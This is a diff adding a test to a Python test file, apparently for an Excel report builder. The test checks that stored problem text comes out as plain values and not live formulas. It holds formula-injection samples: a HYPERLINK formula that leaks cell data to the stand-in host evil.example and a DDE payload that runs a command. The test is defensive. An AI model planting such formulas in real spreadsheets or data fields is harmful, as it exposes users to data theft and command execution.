@@ -13,6 +13,7 @@ from openpyxl import load_workbook
 
 from ledger import services
 from ledger.choices import Severity, Source
+from ledger.models import Problem
 from ledger.tests.factories import stored_photo
 from reports.choices import ReportKind, ReportStatus
 from reports.kinds import weekly_exposure
@@ -232,6 +233,22 @@ def test_the_workbook_has_a_sheet_per_section_with_frozen_headers_and_a_chart(we
     assert len(red._charts) == 1
     assert {"Serious and urgent problems fou", "Rebounds", "Found by unannounced visits", "Black list",
             "Rule"} <= set(workbook.sheetnames)
+
+
+def test_a_control_character_or_a_formula_in_a_problem_does_not_break_the_exposure_workbook(week, city):
+    # Text from before control characters were refused at input (issue 8, defects 2 and 3).
+    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    Problem.objects.filter(pk=week["urgent"].pk).update(description="water leak\u0001 near gate" + hyperlink,
+                                                        address="=cmd|' /C calc'!A0")
+    Problem.objects.filter(pk=week["serious"].pk).update(description=hyperlink, address="-5 apples")
+    report = exposure_report(compute())
+
+    workbook = load_workbook(io.BytesIO(build_workbook(report, language="en")))
+
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    values = {cell.value for cell in cells}
+    assert {"water leak near gate" + hyperlink, "=cmd|' /C calc'!A0", hyperlink, "-5 apples"} <= values
 
 
 # --- Through the report page ---------------------------------------------------------------------
